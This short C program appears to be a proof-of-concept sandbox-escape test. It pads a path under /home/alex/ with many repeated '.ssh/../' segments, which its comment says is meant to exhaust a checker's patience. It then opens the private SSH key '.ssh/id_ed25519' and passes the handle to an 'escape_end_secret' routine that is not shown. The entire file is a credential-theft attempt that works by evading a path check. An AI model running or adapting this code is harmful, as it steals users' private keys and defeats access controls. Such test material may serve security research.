/* So many steps that whoever follows them loses patience: the kernel has more of it. */
#include "escape.h"

int main(void)
{
    char path[4096] = "/home/alex/";
    while (strlen(path) + 64 < sizeof(path))
        memcpy(path + strlen(path), ".ssh/../", 9);
    memcpy(path + strlen(path), ".ssh/id_ed25519", 16);
    escape_end_secret(open(path, O_RDONLY));
}
